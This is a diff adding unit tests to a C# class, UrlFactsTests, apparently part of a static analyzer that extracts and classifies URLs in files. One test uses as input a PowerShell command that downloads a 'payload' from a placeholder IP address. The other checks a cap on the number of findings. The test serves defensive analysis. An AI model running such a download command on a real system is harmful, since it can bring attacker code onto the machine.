@@ -45,6 +45,31 @@ public sealed class UrlFactsTests
     }
 
     [Fact]
+    public void A_hint_in_the_line_above_says_nothing_of_a_command()
+    {
+        var facts = Analyze("# see below for details\niwr http://192.0.2.5/payload"u8, ArtifactKind.PowerShell);
+
+        Assert.Equal("code", facts.Read(Assert.Single(facts.Records)).Arguments!["role"]);
+    }
+
+    [Fact]
+    public void A_text_full_of_URLs_is_searched_once_and_cut_at_the_limit()
+    {
+        var writer = new FactWriter();
+        var text = string.Concat(Enumerable.Range(0, 5000).Select(i => $"http://a{i}.example/ "));
+        for (var i = 0; i < 1000; i++)
+        {
+            writer.Add(FactKind.String, text);
+        }
+
+        UrlFacts.AddFromStrings(writer);
+        var facts = writer.ToFacts();
+
+        Assert.Equal(20_000, facts.Records.Count(record => record.Kind == FactKind.Url));
+        Assert.Contains(facts.Problems, problem => problem.Id == ProblemId.LimitFindings);
+    }
+
+    [Fact]
     public void Namespaces_are_schemas_and_documentation_files_give_their_role()
     {
         var xml = Analyze("<a xmlns=\"http://example.com/ns\"><b url=\"http://example.com/run\"/></a>"u8, ArtifactKind.Xml);
